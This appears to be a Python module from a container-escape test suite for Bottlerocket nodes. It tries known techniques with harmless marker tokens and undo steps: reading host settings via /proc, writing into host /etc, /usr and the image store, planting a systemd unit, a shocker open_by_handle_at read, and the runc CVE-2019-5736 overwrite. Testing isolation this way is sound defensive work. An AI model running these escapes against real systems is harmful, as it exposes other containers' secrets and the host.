"""The node's own files, and what belongs to other containers on its disk."""

from __future__ import annotations

import os
import struct
from pathlib import Path

from escape import kit
from escape.attempt import CDK, DEEPCE, SECRET, Case, Refused, attempt

ROOT = "superpowered: root on the node; gone with the next boot, or data and no program"
READS = "superpowered: it sees the node's files, through /.bottlerocket/rootfs"


@attempt(
    "proc-root",
    f"{CDK}: check-ptrace, shared pid namespace; deepce: host processes",
    "reads the settings through the root of a process of the node",
    "a secret setting is read",
    seen=f"{SECRET}setting",
    allowed={"admin": READS},
    short=True,
)
def proc_root(case: Case) -> str:
    return kit.harvest(f"{kit.root()}/var/lib/bottlerocket")


@attempt(
    "settings-write",
    f"{DEEPCE}: writable host paths",
    "writes a file beside the settings",
    "the file is on the node",
    seen="cat /var/lib/bottlerocket/{token}",
    undo="rm -f /var/lib/bottlerocket/{token}",
    allowed={"admin": ROOT},
)
def settings_write(case: Case) -> str:
    Path(kit.root_of_init(), "var/lib/bottlerocket", case.token).write_text(case.token)
    return "written"


@attempt(
    "other-container-data",
    f"{CDK}: host paths; deepce: interesting files",
    "reads what another host container keeps on the node",
    "the other container's secret is read",
    seen=f"{SECRET}data",
    allowed={"admin": READS},
    short=True,
)
def other_container_data(case: Case) -> str:
    return kit.harvest(f"{kit.root()}/local/host-containers/victim")


@attempt(
    "image-store",
    f"{CDK}: image store; a poisoned layer reaches the next container",
    "adds a blob to the workloads' image store",
    "the file is on the node",
    seen="cat /var/lib/containerd/io.containerd.content.v1.content/blobs/sha256/{token}",
    undo="rm -f /var/lib/containerd/io.containerd.content.v1.content/blobs/sha256/{token}",
    allowed={"admin": f"{ROOT}; blobs are checked against their hashes before they run"},
)
def image_store(case: Case) -> str:
    folder = "var/lib/containerd/io.containerd.content.v1.content/blobs/sha256"
    Path(kit.root_of_init(), folder, case.token).write_text(case.token)
    return "written"


@attempt(
    "node-etc",
    f"{DEEPCE}: writable host paths (/etc)",
    "writes a file into the node's /etc",
    "the file is on the node",
    seen="cat /etc/{token}",
    undo="rm -f /etc/{token}",
    allowed={"admin": ROOT},
)
def node_etc(case: Case) -> str:
    Path(kit.root_of_init(), "etc", case.token).write_text(case.token)
    return "written"


@attempt(
    "node-unit",
    f"{CDK}: cron and units as persistence",
    "plants a unit in /run/systemd/system of the node",
    "the file is on the node",
    seen="grep -o {token} /run/systemd/system/{token}.service",
    undo="rm -f /run/systemd/system/{token}.service",
    allowed={"admin": ROOT},
)
def node_unit(case: Case) -> str:
    unit = f"[Service]\nExecStart=/nothing\n# {case.token}\n"
    Path(kit.root_of_init(), f"run/systemd/system/{case.token}.service").write_text(unit)
    return "planted"


@attempt(
    "node-usr",
    f"{DEEPCE}: writable host paths",
    "writes a program into the node's /usr",
    "the file is on the node",
    seen="cat /usr/bin/{token}",
    control="erofs on dm-verity cannot be written by anybody",
    short=True,
)
def node_usr(case: Case) -> str:
    Path(kit.root(), "usr/bin", case.token).write_text(case.token)
    return "written"


@attempt(
    "shocker",
    f"shocker.c; {CDK}: cap-dac-read-search",
    "opens the root of a mounted file system by its handle, past every mount",
    "another container's secret is read",
    seen=f"{SECRET}data",
    allowed={"admin": READS},
)
def shocker(case: Case) -> str:
    places = ("/.bottlerocket/host-containers/current", "/share")
    place = next((p for p in places if os.path.isdir(p)), None)
    if place is None:
        raise Refused("no folder of the node's data partition is mounted here")
    anchor = os.open(place, os.O_RDONLY)
    handle = struct.pack("=IiII", 8, 1, 2, 0)  # FILEID_INO32_GEN of inode 2: ext4's root
    found = kit.call("open_by_handle_at", anchor, handle, os.O_RDONLY)
    return kit.harvest(f"/proc/self/fd/{found}/host-containers/victim")


@attempt(
    "runc-overwrite",
    f"CVE-2019-5736; {CDK}: runc-pwn",
    "opens the node's runc for writing through a process that runs it, or its path",
    "runc is open for writing",
    control="runc runs from a sealed copy, and the root cannot be written",
)
def runc_overwrite(case: Case) -> str:
    os.close(os.open(f"{kit.root()}/usr/sbin/runc", os.O_WRONLY))
    return "open"
